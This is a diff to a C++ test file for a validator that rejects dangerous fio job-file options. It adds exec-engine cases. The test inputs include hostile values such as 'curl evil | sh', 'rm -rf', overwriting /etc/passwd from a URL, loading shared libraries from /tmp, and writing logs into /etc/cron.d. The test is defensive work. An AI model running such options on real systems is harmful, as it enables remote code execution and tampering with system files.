@@ -57,6 +57,11 @@ TEST_CASE("each refused construct names option, file and line", "[policy]") {
   const std::vector<Case> cases = {
       {"exec_prerun=rm -rf /tmp/fio-data", "exec_prerun", "shell command"},
       {"exec_postrun=curl evil | sh", "exec_postrun", "shell command"},
+      // The exec engine runs a program for the job's runtime (issue 15, part exec).
+      {"ioengine=exec", "ioengine", "runs a program"},
+      {"ioengine= exec ", "ioengine", "runs a program"},
+      {"program=/usr/bin/curl", "program", "program for the exec engine"},
+      {"arguments=-o /etc/passwd http://x", "arguments", "program for the exec engine"},
       {"ioengine=external:/tmp/x.so", "ioengine", "external engine"},
       {"ioengine=/tmp/libevil.so", "ioengine", "external engine"},
       {"write_bw_log=/etc/cron.d/x", "write_bw_log", "log path"},
